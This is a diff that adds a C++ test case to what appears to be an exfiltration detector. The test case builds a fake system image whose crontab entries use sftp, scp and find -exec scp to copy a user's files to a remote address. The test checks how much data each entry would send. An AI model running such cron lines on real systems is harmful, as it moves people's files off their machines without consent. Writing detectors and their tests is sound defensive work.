@@ -238,6 +238,25 @@ TEST_CASE("registered: the environment of units") {
   CHECK(found[1].command == "/usr/bin/scp /a 192.0.2.7:$");
 }
 
+TEST_CASE(
+    "registered: what a line of a crontab gives to be read, and where it stands, is weighed") {
+  const Image image(Files{{"/etc/passwd", "al:x:7:7::/home/al:/bin/sh\n"},
+                          {"/etc/crontab",
+                           "1 1 * * * al sftp -b - u@192.0.2.1%put x%put 100\\%%bye\n"
+                           "2 1 * * * al cd /srv && scp x u@192.0.2.1:\n"
+                           "3 1 * * * al find . -exec scp {} u@192.0.2.1: \\;\n"},
+                          {"/home/al/x", "1"},
+                          {"/home/al/100%", "22"},
+                          {"/srv/x", "333"}});
+  const Inventory inventory = collect(image);
+  auto found = find_registered(inventory, image, auexfil::test::rules().tools);
+  weigh(found, image, auexfil::test::rules().tools);
+  REQUIRE(found.size() == 3);
+  CHECK(found[0].volume.bytes() == 3);
+  CHECK(found[1].volume.bytes() == 3);
+  CHECK(found[2].volume.describe({}) == "what it sends only the run knows");
+}
+
 TEST_CASE("registered: lftp's file of commands names the peer") {
   const Image image(Files{
       {"/etc/crontab", "1 1 * * * root lftp -f /etc/l\n2 1 * * * root lftp -f /etc/none\n"},
